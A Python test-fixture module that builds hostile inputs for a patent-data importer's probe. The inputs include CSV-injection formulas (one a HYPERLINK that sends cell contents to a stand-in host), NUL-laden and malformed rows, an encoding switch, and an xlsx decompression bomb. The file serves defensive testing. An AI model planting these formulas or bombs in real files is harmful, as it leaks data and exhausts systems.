"""Hostile and large files for bench/probe.py, written once into the probe's work folder.

Every patent file is a CNIPA-style CSV (the demo's headers) so that only the one thing under test is wrong.
"""

from __future__ import annotations

import csv
import io
import json
import random
import zipfile
from pathlib import Path

from hvpatent.ingest.appno import check_digit

HEADERS = ["申请号", "申请日", "专利类型", "名称", "摘要", "申请(专利权)人", "地址", "主分类号", "分类号",
           "公开(公告)号", "公开(公告)日", "授权公告日", "代理机构", "权利要求数量", "PCT国际申请号", "法律事件",
           "简单同族ID"]
ADDRESS = "重庆市永川区中山路街道红河大道1号"
# What OWASP's "CSV Injection" page lists as a formula's first character, plus a live HYPERLINK.
FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"x")', "=1+1", "+1", "-1+2", "@SUM(A1)"]


def appno(year: int, kind: int, serial: int) -> str:
    digits = f"{year}{kind}{serial:07d}"
    return f"{digits}.{check_digit(digits)}"


def patent_row(number: str, title: str = "一种探针测试装置", applicant: str = "重庆探针测试有限公司",
               filed: str = "2013-08-15", granted: str = "2015-06-01") -> list[str]:
    """A granted invention in the district, valid for over ten years (high-value: maintained 10 years) whose
    annuity falls due within 90 days of 2024-06-30 (a warning): it shows up in every list that is exported."""
    return [number, filed, "发明", title, "摘要", applicant, ADDRESS, "H01M10/00", "H01M10/00",
            f"CN{number[:9]}A", "2014-02-12", granted, "", "5", "", f"2014-02-12 发明专利申请公布;{granted} 授权", ""]


def _csv(rows: list[list[str]], encoding: str = "utf-8") -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(HEADERS)
    writer.writerows(rows)
    return out.getvalue().encode(encoding)


def formulas_csv() -> bytes:
    """Each formula as title and applicant, three patents each (so the applicants reach the rankings)."""
    rows = [patent_row(appno(2013, 1, 9_100_000 + i), f, f) for i, f in enumerate(FORMULAS * 3)]
    return _csv(rows)


def formula_errors_csv() -> bytes:
    """A rejected file whose bad values are formulas: they reach the errors report."""
    return _csv([patent_row(f, f, f) for f in FORMULAS])


def valid_csv(serial: int = 9_200_000, count: int = 3) -> bytes:
    return _csv([patent_row(appno(2014, 1, serial + i)) for i in range(count)])


def bad_row_csv(kind: str) -> tuple[bytes, int]:
    """Three valid rows, then one bad one on line 5 (data row 4): 'wide' (10^6 columns), 'extra' (one column
    too many), 'nul' / 'soh' (a NUL / U+0001 in the title). Returns the file and the bad row's line number."""
    rows = [patent_row(appno(2014, 1, 9_300_000 + i)) for i in range(3)]
    bad = patent_row(appno(2014, 1, 9_300_010))
    if kind in ("nul", "soh"):
        bad[3] = "一种\x00探针" if kind == "nul" else "一种\x01探针"
        return _csv([*rows, bad]), 5
    data = _csv(rows)
    if kind == "extra":
        return data + (",".join([*bad, "多余"]) + "\n").encode(), 5
    return data + ("x," * 1_000_000 + "x\n").encode(), 5


def nul_jsonl() -> tuple[bytes, int]:
    """Google Patents JSON lines whose fourth record has a title with an escaped NUL (\\u0000): a NUL that
    reaches the title as a value. Returns the file and the bad record's line."""
    lines = []
    for i in range(4):
        title = "一种探针装置" if i < 3 else "一种\x00探针"
        lines.append(json.dumps({"publication_number": f"CN-10390000{i}-A", "application_number":
                                 f"CN-{appno(2013, 1, 9_800_000 + i)[:12]}-A", "country_code": "CN", "kind_code": "A",
                                 "family_id": f"9990000{i}", "filing_date": 20130815, "publication_date": 20140212,
                                 "grant_date": 0, "title_localized": [{"text": title, "language": "zh"}],
                                 "assignee_harmonized": [{"name": "重庆探针测试有限公司", "country_code": "CN"}]}))
    return ("\n".join(lines) + "\n").encode(), 4


def utf8_then_gbk_csv() -> bytes:
    """Over 1 MiB of UTF-8 rows, then one row in GBK (an encoding switch after the first MiB)."""
    rows, size, i = [], 0, 0
    while size < 1_200_000:
        row = patent_row(appno(2015, 1, 9_400_000 + i), title=f"一种长标题测试装置{i}" + "之" * 80)
        rows.append(row)
        size += len(",".join(row).encode())
        i += 1
    tail = ",".join(patent_row(appno(2015, 1, 9_499_999), title="一种编码切换装置")).encode("gbk") + b"\n"
    return _csv(rows) + tail


def garbage_parquet() -> bytes:
    return b"PAR1" + random.Random(7).randbytes(4096) + b"PAR1"


def big_csv(path: Path, rows: int) -> Path:
    """A large valid export: `rows` distinct applications from 2000 on (for the slow import and the kills)."""
    if path.exists():
        return path
    rng = random.Random(12)
    applicants = [f"重庆探针{i:03d}科技有限公司" for i in range(400)]
    tmp = path.with_suffix(".part")
    with tmp.open("w", newline="", encoding="utf-8") as f:
        writer = csv.writer(f, lineterminator="\n")
        writer.writerow(HEADERS)
        for i in range(rows):
            year = 2000 + i % 24
            kind = 1 if i % 3 else 2
            filed = f"{year}-{1 + i % 12:02d}-{1 + i % 28:02d}"
            number = appno(year, kind, 5_000_000 + i)
            granted = f"{year + 2}-03-01"
            events = f"{year + 1}-01-10 发明专利申请公布;{granted} 授权" if kind == 1 else f"{granted} 授权"
            writer.writerow([number, filed, "发明" if kind == 1 else "实用新型", f"一种批量测试装置{i}", "摘要",
                             rng.choice(applicants), ADDRESS, "G06F16/00", "G06F16/00", f"CN{number[:9]}A",
                             f"{year + 1}-01-10", granted, "", "3", "", events, ""])
    tmp.rename(path)
    return path


def _cells(values: list[str]) -> str:
    return "<row>" + "".join(f'<c t="inlineStr"><is><t>{v}</t></is></c>' for v in values) + "</row>"


_PARTS = {
    "[Content_Types].xml": '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
    'package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/'
    'workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    'spreadsheetml.worksheet+xml"/></Types>',
    "_rels/.rels": '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
    'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
    '2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
    "xl/workbook.xml": '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/'
    'spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>',
    "xl/_rels/workbook.xml.rels": '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
    'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats'
    '.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
}


def _xlsx(path: Path, blocks) -> Path:
    """An xlsx whose one sheet is the header row and then `blocks` (bytes of <row> elements), streamed into the
    zip member: the sheet is never held in memory."""
    tmp = path.with_suffix(".part")
    with zipfile.ZipFile(tmp, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        for name, text in _PARTS.items():
            z.writestr(name, text)
        with z.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            sheet.write(b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
                        b'spreadsheetml/2006/main"><sheetData>' + _cells(HEADERS).encode())
            for block in blocks:
                sheet.write(block)
            sheet.write(b"</sheetData></worksheet>")
    tmp.rename(path)
    return path


def bomb_xlsx(path: Path, unpacked_mib: int = 1024) -> Path:
    """An xlsx of a few MB whose one sheet unpacks to `unpacked_mib` MiB: the same patent row repeated."""
    if path.exists():
        return path
    row = _cells(patent_row(appno(2013, 1, 9_600_000))).encode()
    block = row * ((1 << 20) // len(row) + 1)
    return _xlsx(path, (block for _ in range((unpacked_mib << 20) // len(block))))


def large_xlsx(path: Path, unpacked_mib: int = 400) -> Path:
    """A sheet under every limit of the importer (about 400 MiB unpacked at a ratio near 50, 600,000 distinct
    rows): only a streaming reader reads it in bounded memory."""
    if path.exists():
        return path
    rng = random.Random(5)

    def blocks():
        size, i = 0, 0
        while size < unpacked_mib << 20:
            rows = []
            for _ in range(2000):
                number = appno(2000 + i % 24, 1, 1_000_000 + i)
                rows.append(_cells(patent_row(number, title=f"一种大表测试装置{rng.getrandbits(64):x}",
                                              applicant=f"重庆大表{rng.getrandbits(20):x}科技有限公司")))
                i += 1
            block = "".join(rows).encode()
            size += len(block)
            yield block
    return _xlsx(path, blocks())


def sheet_size(path: Path) -> tuple[int, int]:
    """(compressed bytes of the file, uncompressed bytes of all its members)."""
    with zipfile.ZipFile(path) as z:
        return path.stat().st_size, sum(i.file_size for i in z.infolist())
